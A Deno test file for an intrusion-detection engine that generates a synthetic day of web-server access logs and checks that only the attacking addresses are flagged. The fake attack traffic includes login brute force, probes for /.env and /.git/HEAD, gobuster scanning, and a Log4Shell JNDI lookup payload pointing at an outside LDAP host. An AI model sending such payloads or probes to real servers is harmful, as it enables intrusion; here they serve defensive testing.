/**
 * A day of a small shop's web server: an office behind one address, readers,
 * crawlers that remember an older site, pages with broken pictures, checks and
 * programs with old passwords, beside guessers and probers. All from a seed.
 */
import { deepEqual } from "node:assert/strict";
import { DetectionEngine } from "../../../defense/detectors/engine.ts";
import { embeddedScenarios } from "../../../defense/detectors/scenario_set.ts";
import type { Observation } from "../../../defense/observation.ts";
import { LogReader } from "../../../defense/sensors/log_format.ts";

/** Marsaglia's xorshift32; enough for a made-up log. */
function randomOf(seed: number): (bound: number) => number {
  let state = seed;
  return (bound) => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0) % bound;
  };
}

const dayS = 86_400;
const random = randomOf(20_261_126);
const lines: { atS: number; text: string }[] = [];

function ask(
  atS: number,
  source: string,
  request: string,
  status: number,
  { agent = "Mozilla/5.0", user = "-" } = {},
): void {
  const stamp = new Date(Date.UTC(2026, 10, 23) + atS * 1_000).toISOString();
  const time = `23/Nov/2026:${stamp.slice(11, 19)} +0000`;
  lines.push({
    atS,
    text:
      `${source} - ${user} [${time}] "${request} HTTP/1.1" ${status} 1 "-" "${agent}"`,
  });
}

/** A page with its styles and pictures, of which some are broken. */
function page(atS: number, source: string, number: number): void {
  ask(atS, source, `GET /articles/${number}`, 200);
  ask(atS, source, "GET /style.css", 200);
  ask(atS, source, "GET /favicon.ico", 404);
  ask(atS, source, "GET /banner", 404);
  for (let picture = 0; picture < 4; picture++) {
    ask(
      atS + 1,
      source,
      `GET /img/${number}-${picture}.jpg`,
      number % 5 === 0 ? 404 : 200,
    );
  }
}

const office = "198.51.100.1";
for (let visit = 0; visit < 1_200; visit++) {
  page(28_800 + random(36_000), office, random(400));
}
// Forty people of the office mistype at the shop's form during the day, ten
// of them in the first quarter of an hour.
for (let person = 0; person < 40; person++) {
  const atS = person < 10 ? 28_800 + random(900) : 29_700 + random(30_000);
  for (let tries = 0; tries <= random(2); tries++) {
    ask(atS + 12 * tries, office, "POST /login", 401);
  }
  ask(atS + 30, office, "POST /login", 302);
}
for (let reader = 0; reader < 300; reader++) {
  const source = `203.0.113.${reader % 250 + 1}`;
  for (let pages = 0; pages < 4; pages++) {
    page(random(dayS), source, random(400));
  }
}
// One request in four seconds, most of them for pages that are gone.
for (let atS = 0; atS < 20_000; atS += 4) {
  ask(
    atS,
    "198.51.100.20",
    `GET /old/${atS}.html`,
    random(10) < 8 ? 404 : 200,
    { agent: "Mozilla/5.0 (compatible; Googlebot/2.1)" },
  );
}
for (let atS = 0; atS < dayS; atS += 60) {
  ask(atS, "198.51.100.30", "GET /health", 401, {
    agent: "check_http/2.3",
    user: "nagios",
  });
  ask(atS + 7, "198.51.100.31", "GET /private/", 401, { agent: "kuma" });
}
// A calendar with an old password: four requests at once, each half hour.
for (let atS = 0; atS < dayS; atS += 1_800) {
  for (let part = 0; part < 4; part++) {
    ask(atS, "198.51.100.40", `PROPFIND /dav/${part}`, 401, { user: "ada" });
  }
}
// A forgotten tab with an expired session.
for (let atS = 0; atS < dayS; atS += 15) {
  ask(atS, "198.51.100.50", "POST /graphql", 401);
}

const guilty: Record<string, string> = {
  "192.0.2.1": "http-bruteforce",
  "192.0.2.2": "http-bruteforce",
  "192.0.2.3": "http-sensitive",
  "192.0.2.4": "http-probing",
  "192.0.2.5": "http-exploit",
  "192.0.2.6": "http-scanner",
};
for (let attempt = 0; attempt < 30; attempt++) {
  ask(40_000 + attempt * 5, "192.0.2.1", "POST /wp-login.php", 200);
  ask(41_000 + attempt * 3, "192.0.2.2", "GET /private/", 401, {
    user: "admin",
  });
  // Among pages that are there, so that it looks like a reader.
  page(42_000 + attempt * 2, "192.0.2.4", attempt);
}
for (
  const [index, path] of ["/.env", "/.git/HEAD", "/phpmyadmin/", "/a.sql"]
    .entries()
) ask(50_000 + index * 400, "192.0.2.3", `GET ${path}`, 404);
for (let word = 0; word < 60; word++) {
  ask(42_100 + word, "192.0.2.4", `GET /word${word}`, 404);
  ask(60_000 + word, "192.0.2.6", `GET /${word}`, 200, {
    agent: "gobuster/3.6",
  });
}
ask(55_000, "192.0.2.5", "GET /?q=${jndi:ldap://203.0.113.9/x}", 200);

Deno.test("the scenarios for HTTP find guessers and probers and leave a shop's day alone", () => {
  const reader = new LogReader("access", { referenceYear: 2026 });
  const engine = new DetectionEngine(embeddedScenarios());
  const accused: Record<string, string> = {};
  lines.sort((a, b) => a.atS - b.atS);
  for (const { text } of lines) {
    const seen: readonly Observation[] = reader.read(text);
    for (const one of seen) {
      for (const { subject, scenario } of engine.observe(one)) {
        accused[subject.address] ??= scenario;
      }
    }
  }
  deepEqual(accused, guilty);
  deepEqual(reader.counters.unparsed, 0);
});
